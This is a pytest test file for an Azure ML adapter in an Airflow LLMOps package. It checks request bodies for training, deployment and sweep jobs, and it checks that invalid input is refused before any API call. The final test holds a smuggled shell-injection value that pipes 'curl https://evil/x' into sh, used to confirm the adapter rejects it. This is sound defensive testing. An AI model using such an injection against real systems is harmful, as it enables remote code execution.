"""The Azure ML requests our adapter sends, read as data (and as the SDK's REST bodies), and what is refused before
any API call."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from conftest import require_module

from airflow_llmops.platforms import EndpointHandle, get_platform
from airflow_llmops.platforms.azureml import AzureMLConfigError, AzureMLSettings
from airflow_llmops.platforms.azureml import adapter as azureml_adapter
from airflow_llmops.platforms.azureml import requests as R
from airflow_llmops.specs import RolloutPlan, TrainingSpec

SUB = "11111111-2222-4333-8444-555555555555"
SETTINGS = AzureMLSettings(
    subscription_id=SUB,
    resource_group="llmops-rg",
    workspace_name="llmops-ws",
    compute="gpu-cluster",
    image="llmops.azurecr.io/llmops/runtime:1",
    output_uri="abfs://llmops@acct.dfs.core.windows.net/llmops/",
    env={"MLFLOW_TRACKING_URI": "http://mlflow:5000"},
)
DATA = "abfs://llmops@acct.dfs.core.windows.net/data/prepared"


def _spec(**overrides: object) -> TrainingSpec:
    return TrainingSpec.parse({"dataset_uri": DATA, "epochs": 2, **overrides})


@pytest.fixture
def no_calls() -> Iterator[list[str]]:
    """The adapter's clients, replaced by a factory that records being asked: a refusal must come first."""
    asked: list[str] = []

    def factory(settings: AzureMLSettings) -> dict[str, Any]:
        asked.append("client")
        raise AssertionError("an Azure client was built: the input should have been refused before any call")

    azureml_adapter.client_factory = factory
    try:
        yield asked
    finally:
        azureml_adapter.client_factory = None


def test_a_two_node_spot_job_is_one_command_job_with_a_pytorch_distribution() -> None:
    spec = _spec(distributed={"nnodes": 2, "rdzv_endpoint": "node-0:29500", "use_spot": True})
    job = R.command_job(spec, job_name="llmops-train-abc", settings=SETTINGS)
    assert job["instance_count"] == 2 and job["distribution"] == {"type": "pytorch", "process_count_per_instance": 1}
    assert job["queue_settings"] == {"job_tier": "Spot"} and job["compute"] == "gpu-cluster"
    assert job["command"] == "python -m airflow_llmops.ml.runtime train"
    env = job["environment_variables"]
    assert TrainingSpec.from_json(env["LLMOPS_SPEC"]).epochs == 2
    out = "abfs://llmops@acct.dfs.core.windows.net/llmops/training/llmops-train-abc"
    assert env["LLMOPS_DATASET_URI"] == DATA and env["LLMOPS_RESULT_URI"] == f"{out}/llmops/result.json"
    assert (env["LLMOPS_MODEL_DIR"], env["LLMOPS_CHECKPOINT_DIR"]) == (f"{out}/model", f"{out}/checkpoints")
    # Azure ML sets MLFLOW_TRACKING_URI to the workspace's server in every job: the pipeline's travels apart.
    assert env["LLMOPS_MLFLOW_TRACKING_URI"] == "http://mlflow:5000" and "MLFLOW_TRACKING_URI" not in env
    assert job["environment"] == {"image": "llmops.azurecr.io/llmops/runtime:1"}
    assert job["name"] == job["display_name"] == "llmops-train-abc" and job["tags"]["llmops-job"] == job["name"]
    single = R.command_job(_spec(), job_name="j", settings=SETTINGS)
    assert single["instance_count"] == 1 and "queue_settings" not in single
    registered = AzureMLSettings(**{**SETTINGS.__dict__, "environment": "llmops-runtime:3"})
    assert R.command_job(_spec(), job_name="j", settings=registered)["environment"] == "azureml:llmops-runtime:3"


def test_the_sdk_builds_the_command_job_we_describe() -> None:
    require_module("azure.ai.ml")
    spec = _spec(distributed={"nnodes": 2, "rdzv_endpoint": "node-0:29500", "use_spot": True})
    body = R.command_job(spec, job_name="llmops-train-abc", settings=SETTINGS)
    rest = azureml_adapter.AzureML(**SETTINGS.__dict__)._command(body)._to_job()._to_rest_object().as_dict()
    props = rest["properties"]
    assert props["jobType"] == "Command" and props["computeId"] == "gpu-cluster"
    assert props["distribution"] == {"distributionType": "PyTorch", "processCountPerInstance": 1}
    assert props["resources"]["instanceCount"] == 2 and props["queueSettings"] == {"jobTier": "Spot"}
    assert props["environmentVariables"]["LLMOPS_DATASET_URI"] == DATA


@pytest.mark.parametrize(
    ("settings", "spec", "message"),
    [
        (AzureMLSettings(image="i", output_uri="abfs://c/p"), _spec(), "compute"),
        (AzureMLSettings(compute="cpu-cluster", output_uri="abfs://c/p"), _spec(), "image"),
        (AzureMLSettings(compute="cpu-cluster", image="i"), _spec(), "output_uri"),
        (AzureMLSettings(compute="cpu-cluster", image="i", output_uri="s3://b/p"), _spec(), "abfs://"),
        (AzureMLSettings(compute="Standard_NC6 cluster", image="i", output_uri="abfs://c/p"), _spec(), "not a compute"),
        (AzureMLSettings(compute="9cluster", image="i", output_uri="abfs://c/p"), _spec(), "not a compute"),
        (SETTINGS, _spec(dataset_uri="gs://other/data"), "reads the dataset from the workspace's storage"),
        (SETTINGS, _spec(distributed={"instance_type": "n1-standard-8"}), "not an Azure VM size"),
        (
            AzureMLSettings(**{**SETTINGS.__dict__, "environment": "azureml:/subscriptions/x"}),
            _spec(),
            "not a registered environment",
        ),
    ],
)
def test_bad_training_input_is_refused_before_any_api_call(
    settings: AzureMLSettings, spec: TrainingSpec, message: str, no_calls: list[str]
) -> None:
    with pytest.raises(AzureMLConfigError, match=message):
        R.command_job(spec, job_name="job", settings=settings)
    platform = get_platform("azureml", **settings.__dict__)
    with pytest.raises(AzureMLConfigError, match=message):
        platform.submit_training(spec, job_name="job")
    assert no_calls == []


@pytest.mark.parametrize(
    ("triple", "message"),
    [
        ((None, "rg", "ws"), "subscription_id missing"),
        ((SUB, None, None), "resource_group, workspace_name missing"),
        (("my-subscription", "rg", "ws"), "not a subscription GUID"),
        ((SUB, "rg/../x", "ws"), "not a resource group"),
        ((SUB, "rg", "w"), "not an Azure ML workspace name"),
    ],
)
def test_the_workspace_triple_is_checked(triple: tuple[Any, Any, Any], message: str) -> None:
    with pytest.raises(AzureMLConfigError, match=message):
        R.check_workspace(*triple)


def test_a_missing_workspace_fails_when_the_clients_are_built_from_the_connection() -> None:
    def factory(settings: AzureMLSettings) -> dict[str, Any]:
        return {"credential": object(), "subscription_id": SUB}  # the connection names no resource group

    azureml_adapter.client_factory = factory
    try:
        platform = get_platform("azureml", **{**SETTINGS.__dict__, "resource_group": None, "workspace_name": None})
        with pytest.raises(AzureMLConfigError, match="resource_group, workspace_name missing"):
            platform.ml()
    finally:
        azureml_adapter.client_factory = None


def test_a_deployment_serves_the_runtime_with_data_collection_and_scale_settings() -> None:
    plan = RolloutPlan.parse({"strategy": "blue_green"})
    body = R.online_deployment("chat", "v1", "abfs://llmops@acct.dfs.core.windows.net/m/1/", plan, settings=SETTINGS)
    assert body["name"] != "v1" and body["name"].startswith("v1-") and len(body["name"]) <= 32
    assert body["tags"]["llmops-variant"] == "v1" and body["scale_settings"] == {"type": "default"}
    assert body["environment"]["inference_config"] == {
        "liveness_route": {"port": 8080, "path": "/ping"},
        "readiness_route": {"port": 8080, "path": "/ping"},
        "scoring_route": {"port": 8080, "path": "/invocations"},
    }
    env = body["environment_variables"]
    assert env["LLMOPS_MODEL_STORAGE_URI"] == "abfs://llmops@acct.dfs.core.windows.net/m/1"
    assert (
        env["LLMOPS_REQUEST_LOG_SHIP_URI"] == "abfs://llmops@acct.dfs.core.windows.net/llmops/endpoints/chat/requests"
    )
    assert body["data_collector"] == {"collections": {"request": True, "response": True}}
    assert R.deployment_name("blue-v2") == "blue-v2"
    registry = R.online_deployment("chat", "v3", "models:/chat/3", plan, settings=SETTINGS)
    assert registry["environment_variables"]["LLMOPS_MODEL_URI"] == "models:/chat/3"
    with pytest.raises(AzureMLConfigError, match="cannot reach an endpoint"):
        R.online_deployment("chat", "v1", "/tmp/model", plan, settings=SETTINGS)
    scaled = RolloutPlan.parse(
        {"strategy": "blue_green", "autoscaling": {"min_instances": 2, "max_instances": 5, "target_cpu_percent": 60}}
    )
    assert R.online_deployment("chat", "v4", "models:/chat/4", scaled, settings=SETTINGS)["instance_count"] == 2
    assert R.autoscale_setting("chat", "v4-x", "/subs/x/deployments/v4-x", plan) is None
    setting = R.autoscale_setting("chat", "v4-x", "/subs/x/deployments/v4-x", scaled)
    assert setting is not None and setting["target_resource_uri"] == "/subs/x/deployments/v4-x"
    profile = setting["profiles"][0]
    assert profile["capacity"] == {"minimum": "2", "maximum": "5", "default": "2"}
    up, down = profile["rules"]
    assert (up["metric_trigger"]["operator"], up["metric_trigger"]["threshold"]) == ("GreaterThan", 60.0)
    assert up["metric_trigger"]["metric_name"] == "CpuUtilizationPercentage"
    assert (down["scale_action"]["direction"], down["scale_action"]["cooldown_s"]) == ("Decrease", 300)


def test_the_sdk_builds_the_deployment_we_describe() -> None:
    require_module("azure.ai.ml")
    scaled = RolloutPlan.parse(
        {"strategy": "blue_green", "autoscaling": {"min_instances": 2, "max_instances": 5, "target_cpu_percent": 60}}
    )
    body = R.online_deployment("chat", "v1", "abfs://llmops@acct.dfs.core.windows.net/m/1", scaled, settings=SETTINGS)
    entity = azureml_adapter.AzureML(**SETTINGS.__dict__)._deployment_entity(body)
    entity.environment = "/subscriptions/x/environments/e/versions/1"  # the SDK registers an inline one first
    entity.data_collector.collections["request"].data = "/subscriptions/x/data/d/versions/1"
    entity.data_collector.collections["response"].data = "/subscriptions/x/data/e/versions/1"
    rest = entity._to_rest_object(location="eastus").as_dict()
    props = rest["properties"]
    assert props["scaleSettings"] == {"scaleType": "Default"} and rest["sku"]["capacity"] == 2
    assert props["instanceType"] == "Standard_DS3_v2" and props["environmentVariables"]["LLMOPS_VARIANT_NAME"] == "v1"
    assert props["dataCollector"]["collections"]["request"]["dataCollectionMode"].lower() == "enabled"


def test_traffic_takes_whole_percents_summing_to_100_and_one_mirror_up_to_half() -> None:
    assert R.whole_percents({"a": 90.0, "b": 10.0}) == {"a": 90, "b": 10}
    with pytest.raises(ValueError, match="sum to 100"):
        R.whole_percents({"a": 80.0, "b": 10.0})
    with pytest.raises(AzureMLConfigError, match="whole percentages"):
        R.whole_percents({"a": 33.5, "b": 66.5})
    assert R.mirror("shadow-v2", 20) == {"shadow-v2": 20}
    with pytest.raises(AzureMLConfigError, match="at most 50"):
        R.mirror("shadow-v2", 60)
    with pytest.raises(AzureMLConfigError, match="one deployment only"):
        R.mirror("shadow-v3", 10, current={"shadow-v2": 20})
    with pytest.raises(AzureMLConfigError, match="one deployment only"):
        R.check_mirror({"a": 10, "b": 10}, {"c": 100})
    with pytest.raises(AzureMLConfigError, match="takes live traffic"):
        R.check_mirror({"a": 10}, {"a": 50, "c": 50})


def test_bad_rollouts_are_refused_before_any_api_call(no_calls: list[str]) -> None:
    platform = get_platform("azureml", **SETTINGS.__dict__)
    handle = EndpointHandle(platform="azureml", endpoint_name="chat")
    with pytest.raises(ValueError, match="sum to 100"):
        platform.set_traffic(handle, {"v1": 80.0, "v2": 10.0})
    with pytest.raises(AzureMLConfigError, match="whole percentages"):
        platform.set_traffic(handle, {"v1": 87.5, "v2": 12.5})
    shadow = RolloutPlan.parse({"strategy": "shadow", "shadow_percent": 80})
    with pytest.raises(AzureMLConfigError, match="at most 50"):
        platform.deploy("chat", model_uri="models:/chat/2", variant="v2", plan=shadow)
    with pytest.raises(AzureMLConfigError, match="endpoint_name"):
        platform.deploy("ab", model_uri="models:/chat/2", variant="v2", plan=shadow)
    assert no_calls == []


def test_settings_are_json_and_typos_are_refused() -> None:
    platform = get_platform("azureml", **SETTINGS.__dict__)
    assert platform.capabilities.shadow and platform.capabilities.autoscaling
    assert platform.capabilities.refuse(RolloutPlan.parse({"strategy": "shadow"}), "azureml") is None
    with pytest.raises(AzureMLConfigError, match=r"unknown azureml platform options \['workspace'\]"):
        get_platform("azureml", workspace="x")
    assert json.loads(json.dumps(SETTINGS.__dict__))["instance_type"] == "Standard_DS3_v2"


def test_credentials_and_the_workspace_come_from_the_airflow_connection(monkeypatch: pytest.MonkeyPatch) -> None:
    require_module("azure.identity")
    from azure.identity import ClientSecretCredential, DefaultAzureCredential

    extra = {"tenant_id": "t-1", "client_id": "c-1", "client_secret": "s-1", "subscription_id": SUB}
    extra |= {"resource_group": "conn-rg", "workspace_name": "conn-ws"}
    monkeypatch.setenv("AIRFLOW_CONN_AZ_ML_SP", json.dumps({"conn_type": "azure_ml", "extra": extra}))
    monkeypatch.setenv(
        "AIRFLOW_CONN_AZ_ML_MI", json.dumps({"conn_type": "azure_ml", "extra": {"subscription_id": SUB}})
    )
    platform = get_platform("azureml", azure_conn_id="az_ml_sp", workspace_name="settings-ws")
    kwargs = platform._client_kwargs()
    assert isinstance(kwargs["credential"], ClientSecretCredential)
    assert platform.workspace == (SUB, "conn-rg", "settings-ws")  # the settings win over the connection
    assert "s-1" not in json.dumps(platform.settings.__dict__)  # the secret stays in the connection
    managed = get_platform("azureml", azure_conn_id="az_ml_mi", resource_group="rg", workspace_name="ws-1")
    assert isinstance(managed._client_kwargs()["credential"], DefaultAzureCredential)
    assert managed.workspace == (SUB, "rg", "ws-1")


def test_an_azure_connection_as_the_microsoft_azure_provider_saves_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """The provider's ``azure`` connection type: client id and secret as login and password, ``tenantId`` and
    ``subscriptionId`` from its form, the resource group and workspace added to the extra."""
    require_module("azure.identity")
    from azure.identity import ClientSecretCredential, DefaultAzureCredential

    extra = {"tenantId": "t-1", "subscriptionId": SUB, "resource_group": "conn-rg", "workspace_name": "conn-ws"}
    conn = {"conn_type": "azure", "login": "client-1", "password": "secret-1", "extra": extra}
    monkeypatch.setenv("AIRFLOW_CONN_AZURE_ML_DEFAULT", json.dumps(conn))
    platform = get_platform("azureml")  # azure_conn_id defaults to azure_ml_default
    assert isinstance(platform._client_kwargs()["credential"], ClientSecretCredential)
    assert platform.workspace == (SUB, "conn-rg", "conn-ws")
    mi = {"subscriptionId": SUB, "managed_identity_client_id": "mi-1", "workload_identity_tenant_id": "t-2"}
    monkeypatch.setenv("AIRFLOW_CONN_AZURE_ML_DEFAULT", json.dumps({"conn_type": "azure", "extra": mi}))
    managed = get_platform("azureml", resource_group="rg", workspace_name="ws-1")
    assert isinstance(managed._client_kwargs()["credential"], DefaultAzureCredential)
    assert managed.workspace == (SUB, "rg", "ws-1")


@pytest.mark.parametrize(
    ("status", "refused"), [(400, True), (403, True), (404, False), (409, False), (429, False), (503, False)]
)
def test_service_errors_are_refusals_or_retryable(status: int, refused: bool) -> None:
    require_module("azure.core")
    from azure.core.exceptions import HttpResponseError

    from airflow_llmops.platforms import PlatformApiError, PlatformRefusedError

    err = HttpResponseError(message="the service said no")
    err.status_code = status
    found = azureml_adapter._api_error(err, "Azure ML reading endpoint chat (workspace llmops-ws)")
    assert isinstance(found, PlatformApiError) and isinstance(found, PlatformRefusedError) is refused
    assert (
        str(found) == f"Azure ML reading endpoint chat (workspace llmops-ws) failed: HTTP {status}: the service said no"
    )


def _tuning(**overrides: object) -> Any:
    from airflow_llmops.specs.tuning import TuningSpec

    space = {
        "learning_rate": {"type": "float", "low": 1e-5, "high": 1e-3, "log": True},
        "warmup_ratio": {"type": "float", "low": 0.0, "high": 0.2},
        "per_device_batch_size": {"type": "int", "low": 8, "high": 32, "step": 8},
        "lora.r": {"type": "categorical", "choices": [4, 8]},
        "precision": {"type": "categorical", "choices": ["fp32", "bf16"]},
    }
    return TuningSpec.parse(
        {"training": {"dataset_uri": DATA}, "search_space": space, "sampler": "random", **overrides}
    )


def test_a_tuning_spec_is_a_sweep_of_the_training_command_job() -> None:
    body = R.sweep_job(_tuning(n_trials=6, timeout_s=1800.5), job_name="tune-1", settings=SETTINGS)
    trial, sweep = body["trial"], body["sweep"]
    space = sweep["search_space"]
    assert space["learning_rate"]["kind"] == "LogUniform"
    assert space["learning_rate"]["min_value"] == pytest.approx(-11.5129, abs=1e-3)  # natural logs of the bounds
    assert space["warmup_ratio"] == {"kind": "Uniform", "min_value": 0.0, "max_value": 0.2}
    assert space["per_device_batch_size"] == {"kind": "QUniform", "min_value": 8.0, "max_value": 32.0, "q": 8}
    assert space["lora.r"] == {"kind": "Choice", "values": [4, 8]}
    assert sweep["sampling_algorithm"] == "random" and sweep["goal"] == "Maximize"
    assert sweep["primary_metric"] == "eval_accuracy"
    assert sweep["limits"] == {"max_total_trials": 6, "max_concurrent_trials": 2, "timeout": 1801}
    assert sweep["early_termination"]["kind"] == "MedianStoppingPolicy"
    # Each value reaches the runtime as --name=value (quoted: Azure ML substitutes text into the command line).
    assert "'--lora.r=${{inputs.lora__r}}'" in trial["command"]
    env = trial["environment_variables"]
    assert env["LLMOPS_TRIAL_OUTPUT_URI"] == "abfs://llmops@acct.dfs.core.windows.net/llmops/tuning/tune-1"
    assert env["LLMOPS_HP_METRIC"] == "eval_accuracy" and "LLMOPS_MODEL_DIR" not in env
    # Azure ML sets MLFLOW_TRACKING_URI to the workspace's server in every job: the pipeline's travels apart.
    assert env["LLMOPS_MLFLOW_TRACKING_URI"] == "http://mlflow:5000" and "MLFLOW_TRACKING_URI" not in env


def test_the_sdk_builds_the_sweep_job_we_describe() -> None:
    require_module("azure.ai.ml")
    body = R.sweep_job(_tuning(), job_name="tune-1", settings=SETTINGS)
    rest = get_platform("azureml", **SETTINGS.__dict__)._sweep(body)._to_job()._to_rest_object().as_dict()
    props = rest["properties"]
    assert props["jobType"] == "Sweep" and props["computeId"] == "gpu-cluster"
    assert props["searchSpace"]["lora__r"] == ["choice", [[4, 8]]]
    assert props["searchSpace"]["learning_rate"][0] == "loguniform"
    assert props["objective"] == {"goal": "maximize", "primaryMetric": "eval_accuracy"}
    assert props["earlyTermination"]["policyType"] == "MedianStopping"
    assert props["limits"]["maxTotalTrials"] == 10 and props["limits"]["maxConcurrentTrials"] == 2
    assert "'--lora.r=${{search_space.lora__r}}'" in props["trial"]["command"]
    assert props["tags"]["llmops-metric"] == "eval_accuracy"


def test_a_sweep_azure_ml_cannot_take_is_refused_by_name() -> None:
    with pytest.raises(AzureMLConfigError, match="initial_trials has no Azure ML equivalent"):
        R.sweep_job(_tuning(initial_trials=[{"learning_rate": 1e-4}]), job_name="t", settings=SETTINGS)
    with pytest.raises(AzureMLConfigError, match=r"search_space.learning_rate is log-scaled"):
        R.sweep_job(_tuning(sampler="tpe"), job_name="t", settings=SETTINGS)
    minimize = R.sweep_job(_tuning(metric="eval_loss", pruner="none"), job_name="t", settings=SETTINGS)["sweep"]
    assert minimize["goal"] == "Minimize" and "early_termination" not in minimize


def test_a_choice_that_would_break_out_of_the_trials_command_line_is_refused() -> None:
    from airflow_llmops.specs.tuning import TuningSpec

    for bad in ("it's", "x'; curl https://evil/x | sh; echo '", "two\nlines"):
        tuning = TuningSpec.parse(
            {
                "training": {"dataset_uri": DATA},
                "search_space": {"precision": {"type": "categorical", "choices": ["fp32", bad]}},
                "sampler": "random",
            }
        )
        with pytest.raises(AzureMLConfigError, match="cannot pass on a command line"):
            R.sweep_job(tuning, job_name="t", settings=SETTINGS)
